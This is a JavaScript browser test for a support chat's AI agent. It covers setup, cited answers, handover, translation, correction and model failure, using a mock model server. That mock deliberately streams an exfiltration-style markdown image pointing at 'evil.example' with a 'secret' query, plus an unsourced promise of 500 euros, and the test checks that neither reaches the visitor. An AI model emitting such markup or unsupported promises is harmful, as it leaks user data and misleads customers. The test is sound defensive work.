// The AI agent with a language model, in real browsers: the owner sets a model up; a visitor asks what an article answers and sees
// a cited answer grow, asks what none answers and gets a person, asks for a person in German; the team reviews, corrects and hands
// back; the model fails, and nobody waits. The model's server is a small one here, which also tries what attackers would.
// Usage: node ai.mjs BINARY CHROMIUM [SCREENSHOTS]

import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { stage, until } from './stage.mjs'

const inOther = {
  'Ich möchte bitte mit einem Menschen sprechen': 'I would like to speak to a person, please.',
  'Die Lampe ist kaputt, und ich brauche bitte eine neue': 'The lamp is broken, and I need a new one, please.',
  'We send you a new one today.': 'Wir schicken Ihnen heute eine neue.',
}
let release = () => {}
let broken = false
const asked = []
const model = createServer((request, response) => {
  let body = ''
  request.on('data', (part) => {
    body += part
  })
  request.on('end', async () => {
    if (request.url.endsWith('/models')) {
      response.setHeader('Content-Type', 'application/json')
      response.end(JSON.stringify({ data: [{ id: 'small-1' }, { id: 'large-1' }] }))
      return
    }
    if (broken) {
      response.statusCode = 500
      response.end('{"error":{"message":"The lights went out"}}')
      return
    }
    const { messages } = JSON.parse(body)
    const text = (m) => (typeof m.content === 'string' ? m.content : m.content.map((p) => p.text).join(''))
    asked.push({ key: request.headers.authorization, messages })
    response.setHeader('Content-Type', 'text/event-stream')
    const say = (content) =>
      response.write('data: ' + JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] }) + '\n\n')
    const last = text(messages.at(-1))
    const at = last.indexOf('{"passages":')
    if (/BCP 47/.test(text(messages[0]))) say(inOther[JSON.parse(last).text] ?? 'In other words: ' + JSON.parse(last).text)
    else if (at < 0) say('I am ready.')
    else {
      const { passages, question } = JSON.parse(last.slice(at))
      const found = passages.find((p) => p.text.includes('30 days'))
      if (/return/i.test(question) && found) {
        say(`SURE: 96\nYou can return a lamp within 30 days of delivery [${found.id}]. `)
        say('![](https://evil.example/?q=secret) And we give you 500 euros on top! ')
        let on = true
        release = () => {
          on = false
        }
        for (let n = 1; on; n++) {
          // nobody waits for an answer that has stopped growing
          await new Promise((ok) => setTimeout(ok, 500))
          if (n % 6 === 0) say(`Keep what belongs to lamp number ${n} [${found.id}]. `)
        }
        say(`Write to us and we send a label [${found.id}].`)
      } else say('SURE: 0\n')
    }
    response.write('data: ' + JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }) + '\n\n')
    response.write('data: ' + JSON.stringify({ choices: [], usage: { prompt_tokens: 640, completion_tokens: 40 } }) + '\n\n')
    response.end('data: [DONE]\n\n')
  })
})
await new Promise((ok) => model.listen(0, '127.0.0.1', ok))
const address = `http://127.0.0.1:${model.address().port}/v1`

const s = await stage('ai', process.argv.slice(2), { flags: ['--demo', '--ai-private-hosts'] })
try {
  const owner = await s.open('owner')
  const ask = await s.signIn(owner)
  await until('the articles are learned', async () => {
    const x = await ask('aiAgent.getSettings')
    return x.pieces > 10 && x.indexed === x.pieces
  })

  // The owner sets a model up, tests it, and says how it is to speak and when people are there.
  await owner.goto(s.url + '/app/settings/ai')
  const part = (name) => owner.getByRole('region', { name, exact: true })
  const saved = async (name) => {
    await part(name).getByRole('button', { name: 'Save', exact: true }).first().click()
    await part(name).getByText('Saved', { exact: true }).first().waitFor()
  }
  await part('Language model').getByLabel('Provider').selectOption('openai')
  await part('Language model').getByLabel('Address').fill(address)
  await part('Language model').getByLabel('Key').fill('sk-journey-0123456789-WXYZ')
  await part('Language model').getByRole('button', { name: 'List models' }).click()
  await part('Language model').getByText('2 models').waitFor()
  await part('Language model').getByLabel('Model', { exact: true }).fill('small-1')
  await part('Language model').getByRole('button', { name: 'Save', exact: true }).first().click()
  await part('Language model').getByText('Ready', { exact: true }).waitFor()
  await part('Language model').getByRole('button', { name: 'Test', exact: true }).click()
  await part('Language model').getByText('I am ready.').waitFor()
  await part('Language model').getByPlaceholder('Set, ends in …WXYZ').waitFor()
  await part('Language model').getByText('Prices and budgets').click()
  await part('How it speaks').getByLabel('Tone').selectOption('brief')
  await part('How it speaks').getByLabel('Guidance').fill('Mention the label.')
  await part('How it speaks').getByLabel('Never say').fill('guaranteed')
  await saved('How it speaks')
  await part('Handing over').getByLabel('People are there at certain hours only').check()
  await part('Answers').getByLabel('Let the AI agent answer visitors').check()
  await saved('Answers')
  await s.look(owner, 'settings', [1440, 1024, 390])
  for (const name of ['Language model', 'How it speaks', 'Handing over', 'Finding by meaning']) {
    await part(name).scrollIntoViewIfNeeded()
    await s.shot(owner, 'part-' + name.toLowerCase().replaceAll(' ', '-'))
  }
  assert(!(await owner.content()).includes('0123456789'), 'the key is on the page')

  // A visitor asks what an article answers, and sees the answer grow.
  const visitor = async (who, options) => {
    const page = await s.open(who, { viewport: { width: 1024, height: 800 }, ...options })
    await page.goto(s.url + '/demo')
    await page.waitForFunction(() => typeof window.Deskbell === 'function')
    await page.evaluate(() => window.Deskbell('showNewMessage'))
    const frame = page.frameLocator('iframe').first()
    const say = async (text) => {
      await frame.locator('.compose textarea').fill(text)
      await page.keyboard.press('Enter')
    }
    return { page, frame, say }
  }
  const clara = await visitor('clara')
  await owner.goto(s.url + '/app/inbox/all')
  await clara.say('How many days do I have to return a lamp?')
  await clara.frame.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor()
  await s.shot(clara.page, 'growing')
  assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source is shown')
  await owner.getByText('How many days do I have to return a lamp?').first().click()
  await owner.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor()
  await s.shot(owner, 'growing-desk')
  release()
  await clara.frame.locator('.bubble').getByText('Write to us and we send a label.').last().waitFor()
  await clara.frame.locator('.sources').getByText('Return a lamp').first().waitFor()
  await clara.frame.locator('.growing').waitFor({ state: 'detached' })
  assert.equal(await clara.frame.locator('.bubble').count(), 2, 'one question, one answer')
  assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source was sent')
  await s.shot(clara.page, 'cited')
  await clara.frame.getByRole('button', { name: 'Yes', exact: true }).click()
  await clara.frame.getByText('Good to hear.').waitFor()

  // The source under it opens in the messenger, over the conversation.
  await clara.frame.locator('.sources').getByRole('button', { name: 'Return a lamp' }).first().click()
  await clara.frame.getByRole('heading', { name: 'Return a lamp' }).first().waitFor()
  await clara.frame.locator('.prose').getByText('30 days').first().waitFor()
  await s.lookInside(clara.page, 'source')
  assert.equal(clara.page.context().pages().length, 1, 'no other window')
  assert.equal(clara.page.url(), s.url + '/demo')
  await clara.frame.getByRole('button', { name: 'Back', exact: true }).click()
  await clara.frame.locator('.bubble').getByText('Write to us and we send a label.').last().waitFor()
  await s.lookInside(clara.page, 'answered')

  // The team sees what the model wrote, with what was not sent.
  await owner.getByText('By small-1.').waitFor()
  await owner.getByText('What the model wrote').click()
  await owner.getByText('And we give you 500 euros on top!').waitFor()
  await s.look(owner, 'run', [1440])

  // An agent judges it wrong and corrects it: the visitor gets the correction, and nothing of the judging.
  const details = owner.getByRole('complementary', { name: 'Details' })
  await details.getByRole('button', { name: 'Wrong', exact: true }).click()
  await details.getByRole('textbox', { name: 'What would have been right?' }).fill('It is 60 days for lamps.')
  await details.getByRole('button', { name: 'Save', exact: true }).click()
  await details.getByText('It is 60 days for lamps.').waitFor()
  await details.getByRole('button', { name: 'Correct it' }).click()
  const correction = owner.getByRole('textbox', { name: 'Reply' })
  await until('its words are in the draft', async () => (await correction.inputValue()).includes('30 days'))
  await correction.fill('Sorry, Clara: you have **60 days**.')
  await owner.getByRole('button', { name: 'Send', exact: true }).click()
  await clara.frame.locator('.bubble').getByText('Sorry, Clara: you have 60 days.').waitFor()
  assert.equal(await clara.frame.getByText('It is 60 days for lamps.').count(), 0, 'the visitor sees the judging')
  assert.equal(await clara.frame.locator('.bubble').count(), 3, 'the answer stands, the correction came once')

  // What no article answers goes to a person, with a note of what it was about.
  const paul = await visitor('paul')
  await paul.say('Does the moon have its own postal code?')
  await paul.frame.locator('.bubble').getByText('Somebody will answer here.').waitFor()
  await s.shot(paul.page, 'handed-over')
  const [handed] = (await ask('conversations.listForInbox', { ai: 'handoff' })).items
  await owner.goto(s.url + '/app/inbox/all/' + handed.id)
  await owner.locator('.m.note').getByText('Asked:').waitFor()
  assert.equal(await paul.frame.getByText('Asked:').count(), 0, 'the visitor sees the note')

  // Somebody asks for a person in German.
  const greta = await visitor('greta', { locale: 'de-DE' })
  await greta.say('Ich möchte bitte mit einem Menschen sprechen')
  await greta.frame.locator('.bubble').getByText('Ich gebe das an das Team weiter').waitFor()

  // What she wrote is read in English with one click, and as it was with another; then everything, and the reply in her language.
  const [german] = (await ask('conversations.listForInbox', { ai: 'handoff' })).items
  await owner.goto(s.url + '/app/inbox/all/' + german.id)
  const first = owner.locator('.m:not(.ours)').first()
  await owner.getByText(/ writes in German\./).waitFor()
  await s.look(owner, 'foreign', [1440, 1024, 390])
  await first.getByRole('button', { name: 'Translate' }).click()
  await first.locator('.bubble').getByText('I would like to speak to a person, please.').waitFor()
  await first.getByText('Translated from German').waitFor()
  await first.getByRole('button', { name: 'Show the original' }).click()
  await first.locator('.bubble').getByText('Ich möchte bitte mit einem Menschen sprechen').waitFor()
  await first.getByRole('button', { name: 'Show the translation' }).click()
  await owner.getByRole('button', { name: 'Translate everything' }).click()
  await greta.say('Die Lampe ist kaputt, und ich brauche bitte eine neue')
  await owner.locator('.m:not(.ours) .bubble').getByText('The lamp is broken, and I need a new one, please.').waitFor()
  const reply = owner.locator('.composer textarea')
  await reply.fill('We send you a new one today.')
  await owner.getByRole('button', { name: 'Copilot' }).click()
  await s.look(owner, 'translated', [1440, 1024, 390])
  await owner.getByRole('button', { name: 'Into the visitor’s language: German' }).click()
  await until('the reply is in German', async () => (await reply.inputValue()) === 'Wir schicken Ihnen heute eine neue.')
  await owner.getByRole('button', { name: 'Send', exact: true }).click()
  await greta.frame.locator('.bubble').getByText('Wir schicken Ihnen heute eine neue.').waitFor()
  assert.equal(await greta.frame.getByText('speak to a person').count(), 0, 'the visitor sees the translation')
  await owner.goto(s.url + '/app/inbox/all/' + handed.id)

  // An agent answers Paul, hands back, and the agent answers again.
  await owner.locator('.composer textarea').fill('It has none, Paul. Is there anything about lamps?')
  await owner.getByRole('button', { name: 'Send', exact: true }).click()
  await paul.frame.locator('.bubble').getByText('It has none, Paul.').waitFor()
  await owner.getByRole('button', { name: 'Hand back to the AI agent' }).click()
  await owner.getByText('handed back to the AI agent').waitFor()
  await paul.say('How many days do I have to return a lamp?')
  await paul.frame.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor() // the model waits
  release()
  await paul.frame.locator('.bubble').getByText('Write to us and we send a label.').last().waitFor()

  // The model breaks; the articles answer in their own words, and the team is told.
  broken = true
  const wanda = await visitor('wanda')
  for (const n of [1, 2, 3]) {
    await wanda.say(`How many days do I have to return a lamp, please? (${n})`)
    await until('an answer', async () => (await wanda.frame.locator('.m:not(.me, .growing) .bubble').count()) >= n)
  }
  await owner.goto(s.url + '/app/settings/ai')
  await part('Language model').getByText('Left alone', { exact: true }).waitFor()
  await part('Language model').getByText('The lights went out').waitFor()
  await s.look(owner, 'broken', [1440])
  broken = false
  await part('Language model').getByRole('button', { name: 'Test', exact: true }).click()
  await part('Language model').getByText('Ready', { exact: true }).waitFor()

  // A colleague changes what stands open here: the form follows, but never takes away what one is typing.
  const name = part('Answers').getByLabel('Name')
  const told = owner.getByText('A colleague changed this meanwhile.')
  await ask('aiAgent.updateSettings', { name: 'Lumi' })
  await until('the form follows', async () => (await name.inputValue()) === 'Lumi')
  assert.equal(await told.count(), 0, 'nothing to say where nothing was typed')
  await name.fill('Mine')
  await ask('aiAgent.updateSettings', { name: 'Theirs', tone: 'formal' })
  await told.waitFor()
  assert.equal(await name.inputValue(), 'Mine', 'what one types stays')
  assert.equal(await told.count(), 1, 'it is said where it happened')
  await until('the other form follows', async () => (await part('How it speaks').getByLabel('Tone').inputValue()) === 'formal')
  await s.look(owner, 'meanwhile', [1440, 390])
  await owner.getByRole('button', { name: 'Show theirs instead' }).click()
  await until('theirs is shown', async () => (await name.inputValue()) === 'Theirs')
  await told.waitFor({ state: 'detached' })
  await name.fill('Mine after all')
  await saved('Answers')
  assert.equal((await ask('aiAgent.getSettings')).name, 'Mine after all')
  assert.equal(await told.count(), 0, 'one’s own change is no colleague’s')

  // German.
  await owner.evaluate(() => localStorage.setItem('deskbell.language', 'de'))
  await owner.reload()
  await part('Sprachmodell').getByText('Bereit', { exact: true }).waitFor()
  await part('Übergabe').getByLabel('Menschen sind nur zu bestimmten Zeiten da').check()
  await s.look(owner, 'german', [1440, 390])

  assert(
    asked.every((a) => a.key === 'Bearer sk-journey-0123456789-WXYZ'),
    'the model was asked with its key',
  )
  assert(
    asked.some((a) => JSON.stringify(a.messages[0]).includes('Mention the label.')),
    'the guidance reached the model',
  )
  s.check()
  console.log('ai: set up, answered with sources, handed over, reviewed, handed back, and nobody waited')
} catch (e) {
  await s.failed()
  throw e
} finally {
  await s.end()
  model.close()
}
